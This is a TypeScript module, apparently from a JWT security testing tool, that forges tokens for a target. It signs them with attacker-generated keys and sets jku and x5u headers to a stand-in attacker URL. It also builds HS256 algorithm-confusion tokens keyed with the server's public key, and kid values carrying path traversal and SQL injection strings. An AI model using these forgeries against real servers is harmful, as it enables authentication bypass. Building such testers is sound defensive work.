import { createPublicKey } from 'node:crypto'
import { CompactSign, exportJWK, exportSPKI, generateKeyPair, type GenerateKeyPairResult, type JWK } from 'jose'
import type { Target } from './target.ts'
import type { NamedToken } from './unsigned.ts'

const ATTACKER = 'https://attacker.test/keys'

// Values that are dangerous for servers that look keys up by `kid`.
const KEY_IDS: Readonly<Record<string, unknown>> = {
  'a path as kid': '../../../../../../dev/null',
  'SQL as kid': "' UNION SELECT 'key' -- ",
  'a URL as kid': ATTACKER,
  'an unknown kid': 'latchkey-testing-unknown',
  'a very long kid': 'k'.repeat(2000),
  'a number as kid': 7,
  'a list as kid': ['a', 'b']
}

const keyPairs = new Map<string, Promise<GenerateKeyPairResult>>()

/** The key pair of an attacker. There is one for each algorithm, because generating an RSA key takes a fifth of a second. */
function foreignKeys(alg: string): Promise<GenerateKeyPairResult> {
  const pair = keyPairs.get(alg) ?? generateKeyPair(alg, { extractable: true })
  keyPairs.set(alg, pair)
  return pair
}

/** Tokens with the claims of a valid one that are signed with another key. */
export async function foreignTokens(target: Target): Promise<readonly NamedToken[]> {
  const { header, claims, publicKeys } = target
  const { publicKey, privateKey } = await foreignKeys(header.alg)
  const jwk = await exportJWK(publicKey)
  const { kid: _kid, ...withoutKid } = header
  const otherAlg = header.alg === 'RS256' ? 'ES256' : 'RS256'
  const otherKeys = await foreignKeys(otherAlg)
  const der = (await exportSPKI(publicKey)).replace(/-----[^-]+-----|\s/g, '')

  const headers: Readonly<Record<string, object>> = {
    'another key': header,
    'another key, and no kid': withoutKid,
    'an embedded jwk': { ...header, jwk },
    'an embedded jwk, and no kid': { ...withoutKid, jwk },
    'a jku': { ...header, jku: ATTACKER },
    'an x5u': { ...header, x5u: ATTACKER },
    'an x5c': { ...header, x5c: [der] },
    ...Object.fromEntries(Object.entries(KEY_IDS).map(([name, kid]) => [name, { ...header, kid }]))
  }
  const tokens: NamedToken[] = []
  for (const [name, forged] of Object.entries(headers)) tokens.push([name, await sign(claims, forged, privateKey)])
  tokens.push(['a key for another algorithm', await sign(claims, { ...header, alg: otherAlg }, otherKeys.privateKey)])
  for (const [name, secret] of secretsFrom(publicKeys)) {
    tokens.push([name, await sign(claims, { ...header, alg: 'HS256' }, secret)])
  }
  return tokens
}

type SigningKey = Parameters<CompactSign['sign']>[0]

/** Signs any header and claims. */
export async function sign(claims: object, header: object, key: SigningKey): Promise<string> {
  // Cast: a forged header may have members of any type.
  const forged = header as { readonly alg: string; readonly crit?: readonly string[] }
  const crit = Object.fromEntries((forged.crit ?? []).map((name) => [name, true]))
  return new CompactSign(Buffer.from(JSON.stringify(claims)))
    .setProtectedHeader({ ...forged } as never)
    .sign(key, { crit })
}

/** The forms of public keys that a server could take for the secret of an HMAC. */
function secretsFrom(publicKeys: readonly JWK[]): readonly (readonly [string, Uint8Array])[] {
  return [
    ...publicKeys.slice(0, 1).flatMap((jwk) => {
      const key = createPublicKey({ key: jwk, format: 'jwk' })
      const pem = String(key.export({ type: 'spki', format: 'pem' }))
      return [
        ['HS256 with the public key as PEM', Buffer.from(pem)],
        ['HS256 with the public key as PEM without a final line break', Buffer.from(pem.trim())],
        ['HS256 with the public key as DER', key.export({ type: 'spki', format: 'der' })],
        ['HS256 with the public key as JWK', Buffer.from(JSON.stringify(jwk))]
      ] as const
    }),
    ['HS256 with a secret of one zero byte', Buffer.alloc(1)],
    ['HS256 with the secret "secret"', Buffer.from('secret')]
  ]
}
